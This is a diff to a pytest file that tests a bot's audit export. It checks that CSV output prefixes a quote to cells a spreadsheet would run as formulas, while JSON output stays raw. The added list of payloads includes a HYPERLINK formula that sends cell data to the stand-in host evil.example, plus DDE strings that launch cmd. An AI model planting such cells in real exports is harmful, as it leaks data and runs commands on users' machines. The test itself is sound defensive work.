@@ -5,6 +5,9 @@ from __future__ import annotations
 import csv
 import io
 import json
+import subprocess
+import sys
+from pathlib import Path
 
 import pytest
 
@@ -12,6 +15,7 @@ from bot import blocks
 from bot.cli import main
 from bot.lexi.sandbox import Sandbox
 from tests.support.harness import BotHarness
+from tests.support.process import clean_env
 
 
 def _events(bot: BotHarness, task_id: str) -> list[tuple[str, str | None, str | None]]:
@@ -63,3 +67,36 @@ def test_audit_command_exports_csv_and_json(bot: BotHarness, sandbox: Sandbox, m
     assert json.loads(capsys.readouterr().out) == []
     assert main(["audit", "--since", "last tuesday"]) == 2
     assert "--since" in capsys.readouterr().err
+
+
+#: Cells a spreadsheet would run as a formula (OWASP's CSV injection list), as users and LeadLex could supply them.
+HOSTILE_CELLS = ['=HYPERLINK("https://evil.example/?"&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_export_neutralises_formulas_in_every_column(bot: BotHarness, sandbox: Sandbox, tmp_path: Path) -> None:
+    """`lexi-bot audit --format csv` prefixes a quote to any cell a spreadsheet would run; JSON stays raw."""
+    announced = sandbox.add_task(task_id="-cmd", description="an id that starts with a minus")["id"]
+    bot.poll()
+    for cell in HOSTILE_CELLS:  # a refusal's task id and a failure's note come from what people and LeadLex sent
+        bot.store.audit("refused", cell, actor=cell[:16], surface=cell[:16], detail=cell)  # surface: 16 chars
+    bot.store.audit("decision_failed", "task-uuid-1", actor="UALICE", surface="modal", detail="plain = text")
+    env = clean_env(DATABASE_URL=bot.runtime.settings.database_url)
+
+    def export(fmt: str) -> str:
+        """The export, as the CLI writes it to standard output."""
+        done = subprocess.run([sys.executable, "-m", "bot.cli", "audit", "--format", fmt], env=env, cwd=tmp_path,
+                              capture_output=True, timeout=60, check=False)
+        assert done.returncode == 0, done.stderr
+        return done.stdout.decode()
+
+    rows = list(csv.DictReader(io.StringIO(export("csv"), newline="")))
+    assert [r["task_id"] for r in rows if r["event"] == "announced"] == [f"'{announced}"]
+    hostile = [r for r in rows if r["event"] == "refused"]
+    for row, cell in zip(hostile, HOSTILE_CELLS, strict=True):
+        assert [row[c] for c in ("task_id", "actor", "surface", "detail")] == [f"'{cell}", f"'{cell[:16]}",
+                                                                               f"'{cell[:16]}", f"'{cell}"]
+    plain = rows[-1]
+    assert (plain["task_id"], plain["actor"], plain["detail"]) == ("task-uuid-1", "UALICE", "plain = text")
+    raw = [e for e in json.loads(export("json")) if e["event"] == "refused"]
+    assert [e["detail"] for e in raw] == HOSTILE_CELLS and raw[0]["actor"] == HOSTILE_CELLS[0][:16]
